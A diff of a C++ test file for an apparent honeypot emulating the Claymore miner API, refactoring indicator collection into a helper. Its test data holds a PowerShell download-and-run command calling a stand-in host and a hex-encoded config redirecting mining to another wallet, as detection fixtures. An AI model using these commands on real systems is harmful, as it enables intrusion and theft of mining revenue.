@@ -54,6 +54,15 @@ rapidjson::Document json_of(const std::string& text) {
   return d;
 }
 
+/** A turn's indicators as (kind, text), in the order it found them. */
+std::vector<std::pair<indicator_kind, std::string>> indicators_of(const emulation_turn& turn) {
+  std::vector<std::pair<indicator_kind, std::string>> out;
+  for (unsigned i = 0; i < turn.indicator_count; ++i) {
+    out.emplace_back(turn.indicators[i].kind, std::string(turn.indicators[i].value()));
+  }
+  return out;
+}
+
 http_read read(const std::string& text, http_request& r, size_t max = 4096) {
   return read_http_request(reinterpret_cast<const uint8_t*>(text.data()), text.size(), max, r);
 }
@@ -288,10 +297,6 @@ TEST_CASE("the Claymore API reports a rig and records control commands", "[emula
           "6d2e6578652729220d0a6d2e6578650d0a"
           R"("]})");
   CHECK(x.turn.steps == step_bit(emulated_step::miner_control));
-  std::vector<std::pair<indicator_kind, std::string>> got;
-  for (unsigned i = 0; i < x.turn.indicator_count; ++i) {
-    got.emplace_back(x.turn.indicators[i].kind, std::string(x.turn.indicators[i].value()));
-  }
   const std::vector<std::pair<indicator_kind, std::string>> script = {
       {indicator_kind::miner_command, "miner_file reboot.bat"},
       {indicator_kind::file_sha256,
@@ -301,7 +306,7 @@ TEST_CASE("the Claymore API reports a rig and records control commands", "[emula
        R"c(powershell -c "(New-Object Net.WebClient).DownloadFile('http://192.0.2.66/m.exe','m.exe')")c"},
       {indicator_kind::url, "http://192.0.2.66/m.exe"},
       {indicator_kind::shell_command, "m.exe"}};
-  CHECK(got == script);
+  CHECK(indicators_of(x.turn) == script);
   // A config.txt that sends the rig's mining to another wallet.
   x = ask(plan, emulated_protocol::claymore,
           R"({"id":0,"method":"miner_file","params":["config.txt",")"
@@ -309,17 +314,13 @@ TEST_CASE("the Claymore API reports a rig and records control commands", "[emula
           "78414241424142414241424142414241424142414241424142414241424142414241424142414241"
           "422e72696731202d6570737720780a"
           R"("]})");
-  got.clear();
-  for (unsigned i = 0; i < x.turn.indicator_count; ++i) {
-    got.emplace_back(x.turn.indicators[i].kind, std::string(x.turn.indicators[i].value()));
-  }
   const std::vector<std::pair<indicator_kind, std::string>> config = {
       {indicator_kind::miner_command, "miner_file config.txt"},
       {indicator_kind::file_sha256,
        "083775ca2f00588f1ed159652cb04308cd37b41ebdf0d8a43fc3db3891212d72"},
       {indicator_kind::file_name, "config.txt 95 bytes"},
       {indicator_kind::eth_etherbase, "0xabababababababababababababababababababab"}};
-  CHECK(got == config);
+  CHECK(indicators_of(x.turn) == config);
   // Content that is not hex (or of an odd length) is not read: the command alone.
   for (const char* content : {"6g", "657"}) {
     x = ask(plan, emulated_protocol::claymore,
